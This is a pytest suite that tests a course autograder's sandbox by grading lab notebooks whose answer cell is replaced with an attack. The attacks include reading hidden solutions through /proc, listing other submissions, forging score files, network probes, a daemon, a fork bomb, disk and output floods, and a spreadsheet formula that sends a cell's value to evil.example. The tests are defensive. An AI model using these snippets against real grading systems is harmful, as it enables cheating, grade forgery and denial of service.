"""Attacks on the grader's sandbox, end to end: each is a lab 1 notebook (the released lab with one answer cell
replaced by the attack) graded by the real command line, all in one run with --jobs 2.

An attack that looks for something it must not reach defines `make_embedding` correctly only if it found it, so
question q5 passes exactly when the attack worked. An attack on the machine (daemon, fork bomb, disk, output)
defines it correctly after the attack: the submission must then be graded normally and leave nothing behind.
"""

from __future__ import annotations

import copy
import json
import secrets
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from utils.grading.lms import read_csv
from utils.grading.notebook import parse_lab
from utils.grading.sandbox import SandboxUnavailable, check_sandbox

ROOT = Path(__file__).resolve().parents[1]
RELEASED = json.loads((ROOT / "labs" / "lab1" / "lab1.ipynb").read_text())
SOLUTION = ROOT / "solutions" / "lab1" / "lab1.ipynb"
MARKER = f"attack-{secrets.token_hex(8)}"
CORRECT = """
def make_embedding(vocab_size, embedding_dim, pad_id=0):
    return nn.Embedding(vocab_size, embedding_dim, padding_idx=pad_id)
"""
#: Defines make_embedding correctly only when the attack above it set `found`.
IF_FOUND = CORRECT.replace("def make_embedding(vocab_size, embedding_dim, pad_id=0):\n",
                           "def make_embedding(vocab_size, embedding_dim, pad_id=0):\n"
                           "    if not found:\n        return nn.Embedding(vocab_size, embedding_dim)\n")

try:
    check_sandbox()
except SandboxUnavailable as error:  # pragma: no cover - the Makefile installs bubblewrap
    pytest.skip(f"no sandbox on this machine: {error}", allow_module_level=True)


def read_solutions() -> str:
    return f"""
import glob, os
from pathlib import Path
found = False
paths = [{str(SOLUTION)!r}, "/proc/1/root{SOLUTION}", *glob.glob("/proc/*/cwd/solutions/lab1/lab1.ipynb"),
         *glob.glob("/proc/*/root{SOLUTION}"), "/root/.bash_history"]
for fd in glob.glob("/proc/*/fd/*"):  # files a process of the sandbox holds open (pipes and sockets left alone)
    try:
        if "solutions" in os.readlink(fd):
            paths.append(fd)
    except OSError:
        pass
for path in paths:
    try:
        found = found or "BEGIN SOLUTION" in Path(path).read_text(errors="replace")
    except OSError:
        pass
{IF_FOUND}"""


def list_others(submissions: Path, out: Path) -> str:
    return f"""
import os
found = []
for place in [{str(submissions)!r}, {str(out)!r}, {str(out / ".cache")!r}]:
    try:
        found += os.listdir(place)
    except OSError:
        pass
for top in ["/tmp", "/home", "/work", "/var", "/dev/shm", "/run", "/mnt", "/srv", "/opt"]:
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d != ".venv"]
        found += [f for f in files if f.endswith((".ipynb", ".csv")) or f.startswith(("result-", ".cache-secret"))]
{IF_FOUND}"""


def forge_cache(out: Path) -> str:
    forged = json.dumps({"status": "graded", "score": 12.0, "max_score": 12.0, "questions": [], "message": ""})
    return f"""
found = False
for path, text, outside in [({str(out / ".cache" / "forged.json")!r}, {forged!r}, True),
                            ({str(out / "summary.csv")!r}, "hacked", True), ("../summary.csv", "hacked", False),
                            ("/tmp/{MARKER}.csv", "hacked", False)]:
    try:
        open(path, "w").write(text)
        found = found or outside
    except OSError:
        pass
try:
    found = found or bool(open({str(out / ".cache-secret")!r}).read())
except OSError:
    pass
{IF_FOUND}"""


def network(port: int) -> str:
    return f"""
import socket
found = False
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 443), ("pypi.org", 443)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        found = True
    except OSError:
        pass
{IF_FOUND}"""


REACH_OTHERS = """
import os, socket
found = False
mine = {str(os.getpid())}
others = [p for p in os.listdir("/proc") if p.isdigit() and p not in ("1", "2") and p not in mine]
for line in open("/proc/net/unix").read().splitlines()[1:]:
    fields = line.split()
    if len(fields) > 7 and fields[7].startswith("@"):  # an abstract socket: try to talk to it
        try:
            client = socket.socket(socket.AF_UNIX)
            client.connect("\\0" + fields[7][1:])
            found = True
        except OSError:
            pass
for pid in others:
    try:
        found = found or "worker" in open(f"/proc/{pid}/cmdline").read() and os.getppid() != int(pid)
    except OSError:
        pass
""" + IF_FOUND

DAEMON = f"""
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600; echo late > /tmp/late; : {MARKER}-daemon"])
    os._exit(0)
time.sleep(0.5)
{CORRECT}"""

FORK_BOMB = f"""
import os
for _ in range(2000):  # bounded: a missing limit must not take the test machine down
    try:
        if os.fork() == 0:
            os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600; : {MARKER}-bomb"])
    except OSError:
        break
{CORRECT}"""

DISK_FILL = f"""
try:
    with open("fill", "wb") as handle:
        for _ in range(1024):  # at most 1 GiB: bounded even if the cap were missing
            handle.write(b"x" * 2**20)
except OSError:
    pass
{CORRECT}"""

RAW_OUTPUT = f"""
import os
for _ in range(200):
    os.write(1, b"{MARKER}" * 50_000)
    os.write(2, b"{MARKER}" * 50_000)
{CORRECT}"""

FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click me")'


def lab1_with(**replacements: str) -> dict:
    """The released lab 1 with the cells of the given grade_ids replaced."""
    notebook = copy.deepcopy(RELEASED)
    for cell in notebook["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if grade_id in replacements:
            cell["source"] = replacements[grade_id]
    return notebook


def duplicated_ids() -> dict:
    notebook = lab1_with(q5_make_embedding=CORRECT)
    notebook["cells"][3]["id"] = notebook["cells"][5]["id"]
    return notebook



def processes_with(text: str) -> list[int]:
    """Host pids whose command line contains `text`."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and text.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Grade every attack in one run of `python -m utils.grading grade --lab lab1 --jobs 2`."""
    root = tmp_path_factory.mktemp("attacks")
    submissions, out = root / "submissions", root / "out"
    submissions.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.1)
    attacks = {
        "read-solutions": lab1_with(q5_make_embedding=read_solutions()),
        "list-others": lab1_with(q5_make_embedding=list_others(submissions, out)),
        "forge-cache": lab1_with(q5_make_embedding=forge_cache(out)),
        "network": lab1_with(q5_make_embedding=network(listener.getsockname()[1])),
        "reach-other-workers": lab1_with(q5_make_embedding=REACH_OTHERS),
        "setsid-daemon": lab1_with(q5_make_embedding=DAEMON),
        "fork-bomb": lab1_with(q5_make_embedding=FORK_BOMB),
        "disk-fill": lab1_with(q5_make_embedding=DISK_FILL),
        "raw-output": lab1_with(q5_make_embedding=RAW_OUTPUT),
        "formula-answer": lab1_with(q5_make_embedding=CORRECT, w1_min_freq=FORMULA),
        "duplicated-ids": duplicated_ids(),
    }
    for name, notebook in attacks.items():
        (submissions / f"{name}.ipynb").write_text(json.dumps(notebook))
    start = time.monotonic()
    process = subprocess.run([sys.executable, "-m", "utils.grading", "grade", "--lab", "lab1", "--out", str(out),
                              "--jobs", "2", "--timeout", "120", "--quiet", str(submissions)],
                             cwd=ROOT, capture_output=True, text=True, timeout=1800)
    try:
        connections = 0
        while True:
            listener.accept()[0].close()
            connections += 1
    except OSError:
        pass
    finally:
        listener.close()
    rows: dict[str, dict[str, dict[str, str]]] = {}
    for row in read_csv(out / "grades.csv"):
        rows.setdefault(row["submission"], {})[row["question"]] = row
    return {"process": process, "out": out, "rows": rows, "names": set(attacks), "connections": connections,
            "summary": {r["submission"]: r for r in read_csv(out / "summary.csv")}, "seconds": time.monotonic() - start}


def test_every_attack_still_gets_its_rows_and_the_run_completes(graded):
    assert graded["process"].returncode == 0, graded["process"].stderr[-3000:]
    assert set(graded["rows"]) == graded["names"] == set(graded["summary"])
    for name, questions in graded["rows"].items():
        assert len(questions) == len(parse_lab("lab1", SOLUTION).questions) and all(r["status"] != "grader-error" for r in questions.values()), name


@pytest.mark.parametrize("name", ["read-solutions", "list-others", "forge-cache", "network", "reach-other-workers"])
def test_what_the_sandbox_hides_stays_hidden(graded, name):
    row = graded["rows"][name]["q5_tests"]
    assert row["status"] == "failed" and float(row["score"]) == 0, row


def test_the_network_attack_never_reached_the_host(graded):
    assert graded["connections"] == 0


def test_nothing_was_forged_or_overwritten_in_the_output_folder(graded):
    out = graded["out"]
    assert not (out / ".cache" / "forged.json").exists()
    assert "hacked" not in (out / "summary.csv").read_text() + (out / "grades.csv").read_text()
    assert not Path(f"/tmp/{MARKER}.csv").exists()  # the sandbox's /tmp is its own


@pytest.mark.parametrize("name", ["setsid-daemon", "fork-bomb", "disk-fill", "raw-output"])
def test_attacks_on_the_machine_leave_the_submission_graded_and_nothing_behind(graded, name):
    row = graded["rows"][name]["q5_tests"]
    assert row["status"] == "passed", row
    assert processes_with(MARKER) == []


def test_output_floods_do_not_reach_the_gradebook(graded):
    out = graded["out"]
    for file in ("grades.csv", "summary.csv", "written.csv"):
        assert MARKER not in (out / file).read_text()
    assert (out / "grades.csv").stat().st_size < 200_000


def test_a_formula_in_a_written_answer_is_neutralised_in_csv_and_verbatim_in_feedback(graded):
    written = {r["submission"]: r for r in read_csv(graded["out"] / "written.csv") if r["question"] == "w1_min_freq"}
    assert written["formula-answer"]["answer"] == "'" + FORMULA
    html = (graded["out"] / "feedback" / "formula-answer.html").read_text()
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1, &quot;click me&quot;)" in html
    assert graded["rows"]["formula-answer"]["q5_tests"]["status"] == "passed"


def test_malformed_ids_are_an_invalid_notebook_not_a_grader_error(graded):
    rows = graded["rows"]["duplicated-ids"]
    assert {r["status"] for r in rows.values()} == {"invalid-notebook"}
    assert "share the id" in rows["q5_tests"]["message"]
    assert graded["summary"]["duplicated-ids"]["score"] == "0.0"
